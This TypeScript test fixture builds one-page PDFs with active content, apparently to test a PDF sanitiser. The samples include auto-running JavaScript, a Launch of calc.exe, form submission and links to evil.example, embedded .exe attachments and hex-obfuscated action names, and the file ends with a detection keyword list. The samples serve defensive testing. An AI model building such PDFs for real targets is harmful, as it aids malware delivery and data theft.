import { objectStream, ONE_PAGE, pageWith, rawPdf, rawStream } from './raw-pdf.ts'

const SCRIPT = '<</S /JavaScript /JS (app.alert\\(1\\))>>'
const annotation = (facts: string) => ({
  3: `<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Resources <<>> /Contents 4 0 R /Annots [9 0 R]>>`,
  9: `<</Type /Annot /Rect [0 0 10 10] ${facts}>>`,
})
const catalogue = (facts: string) => ({ 1: `<</Type /Catalog /Pages 2 0 R ${facts}>>` })
const page = (facts: string) => ({
  3: `<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Resources <<>> /Contents 4 0 R ${facts}>>`,
})
const drawing = (facts: string) => ({
  3: `<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources <</XObject <</D 9 0 R>>>>>>`,
  4: rawStream('', '/D Do'),
  9: rawStream(`/Type /XObject /Subtype /Form /BBox [0 0 10 10] ${facts}`, '0 0 5 5 re f'),
})

/** One-page PDFs, each with one kind of active content. */
export const HOSTILE_PDFS: readonly (readonly [what: string, bytes: Buffer])[] = [
  [
    'a script between comments that look like a stream',
    rawPdf({ ...ONE_PAGE, ...catalogue('/OpenAction 9 0 R'), 9: `% stream\n${SCRIPT}\n% endstream` }),
  ],
  ['a script in comments', pageWith({}, { between: `% stream\n9 0 obj ${SCRIPT} endobj\n% endstream\n` })],
  ['a script in the tree of names', pageWith(catalogue(`/Names <</JavaScript <</Names [(a) ${SCRIPT}]>>>>`))],
  ['a script that runs when it is opened', pageWith(catalogue(`/OpenAction ${SCRIPT}`))],
  [
    'a script whose name is written in numbers',
    pageWith(catalogue('/Open#41ction <</S /J#61vaScript /#4a#53 (x)>>')),
  ],
  ['actions of the document', pageWith(catalogue(`/AA <</WC ${SCRIPT} /DP ${SCRIPT}>>`))],
  ['actions of a page', pageWith(page(`/AA <</O ${SCRIPT} /C ${SCRIPT}>>`))],
  ['actions of an annotation', pageWith(annotation(`/Subtype /Widget /FT /Tx /T (f) /AA <</E ${SCRIPT}>>`))],
  ['a script behind a link', pageWith(annotation(`/Subtype /Link /A ${SCRIPT}`))],
  [
    'a link to another site',
    pageWith(annotation('/Subtype /Link /A <</S /URI /URI (https://evil.example)>>')),
  ],
  [
    'a program to start',
    pageWith(catalogue('/OpenAction <</S /Launch /F (calc.exe) /Win <</F (calc.exe)>>>>')),
  ],
  ['a chain of actions', pageWith(catalogue(`/OpenAction <</S /GoTo /D [3 0 R /Fit] /Next [${SCRIPT}]>>`))],
  [
    'a jump into another file',
    pageWith(annotation('/Subtype /Link /A <</S /GoToR /F (x.pdf) /D [0 /Fit]>>')),
  ],
  [
    'a form that is sent',
    pageWith({
      ...annotation('/Subtype /Widget /FT /Btn /T (b) /A <</S /SubmitForm /F (https://evil.example)>>'),
      ...catalogue('/AcroForm <</Fields [9 0 R] /CO [9 0 R]>>'),
    }),
  ],
  [
    'a form in XML',
    pageWith({
      ...catalogue('/AcroForm <</Fields [] /XFA 9 0 R>> /NeedsRendering true'),
      9: rawStream('', '<xdp/>'),
    }),
  ],
  [
    'an attached file',
    pageWith({
      ...catalogue('/Names <</EmbeddedFiles <</Names [(x) 9 0 R]>>>> /AF [9 0 R]'),
      9: '<</Type /Filespec /F (x.exe) /EF <</F 10 0 R>>>>',
      10: rawStream('/Type /EmbeddedFile', 'MZ'),
    }),
  ],
  [
    'a file attached to a page',
    pageWith({
      ...annotation('/Subtype /FileAttachment /FS 10 0 R'),
      10: '<</Type /Filespec /F (x.exe) /EF <</F 11 0 R>>>>',
      11: rawStream('/Type /EmbeddedFile', 'MZ'),
    }),
  ],
  ['a film', pageWith(annotation('/Subtype /RichMedia /RichMediaContent <</Assets <<>>>>'))],
  ['a model in three dimensions', pageWith(annotation('/Subtype /3D /3DD <</OnInstantiate (x)>>'))],
  [
    'a bookmark that runs a script',
    pageWith({
      ...catalogue('/Outlines 9 0 R'),
      9: '<</First 10 0 R /Last 10 0 R /Count 1>>',
      10: `<</Title (x) /Parent 9 0 R /A ${SCRIPT}>>`,
    }),
  ],
  [
    'metadata',
    pageWith(
      {
        ...catalogue('/Metadata 9 0 R'),
        9: rawStream('/Type /Metadata /Subtype /XML', '<x:xmpmeta/>'),
        10: '<</Title (Secret) /Author (Somebody)>>',
      },
      { trailer: '/Info 10 0 R' },
    ),
  ],
  [
    'a script in a packed object',
    pageWith({ ...catalogue('/OpenAction 20 0 R'), 9: objectStream({ 20: SCRIPT }) }),
  ],
  [
    'a packed page with actions',
    rawPdf({
      1: ONE_PAGE[1],
      4: ONE_PAGE[4],
      9: objectStream({ 2: ONE_PAGE[2], 3: page(`/AA <</O ${SCRIPT}>>`)[3] }),
    }),
  ],
  [
    'a script in a drawing',
    pageWith(drawing(`/AA <</O ${SCRIPT}>> /A ${SCRIPT} /PieceInfo <</X <</Private ${SCRIPT}>>>>`)),
  ],
  [
    'a drawing that stands in for another file',
    pageWith(drawing('/Ref <</F (x.pdf) /Page 0>> /OPI <</2.0 <</F (x.tif)>>>> /Metadata 4 0 R')),
  ],
  [
    'a drawing that is a program',
    pageWith({ ...drawing(''), 9: rawStream('/Type /XObject /Subtype /PS', 'systemdict begin') }),
  ],
  [
    'a content that stands in another file',
    pageWith({ 4: rawStream('/F (https://evil.example/x) /FFilter /FlateDecode', '') }),
  ],
  [
    'a script in the resources',
    pageWith(
      page(
        `/Resources <</Properties <</X ${SCRIPT} /JS (x)>> /JS (x) /Font <</Z <</Type /Action /S /JavaScript /JS (x)>>>>>>`,
      ),
    ),
  ],
  ['a script as a transparency group', pageWith(page(`/Group <</Type /Action /S /JavaScript /JS (x)>>`))],
  [
    'a script inherited from the tree',
    pageWith({
      2: `<</Type /Pages /Kids [3 0 R] /Count 1 /AA <</O ${SCRIPT}>> /Resources <</A ${SCRIPT}>>>>`,
    }),
  ],
  [
    'layers that act',
    pageWith(
      catalogue(
        `/OCProperties <</OCGs [] /D <</AS [<</Event /View /OCGs []>>] /Order []>>>> /OpenAction <</S /SetOCGState /State [/OFF]>>`,
      ),
    ),
  ],
  [
    'an earlier version with a script',
    Buffer.concat([
      pageWith(catalogue(`/OpenAction ${SCRIPT}`)),
      Buffer.from('1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n'),
    ]),
  ],
]

/** Keys and names of actions, attachments, annotations and metadata. */
export const ACTIVE_NAMES = `
  JavaScript JS A AA OpenAction Next Action Launch URI GoTo GoToR GoToE SubmitForm ImportData
  SetOCGState Names EmbeddedFile EmbeddedFiles Filespec EF AF F FFilter AcroForm XFA Annots Annot
  Outlines RichMedia 3D 3DD Metadata Info PieceInfo Ref OPI PS AS ObjStm Encrypt NeedsRendering Dests
`
  .trim()
  .split(/\s+/)
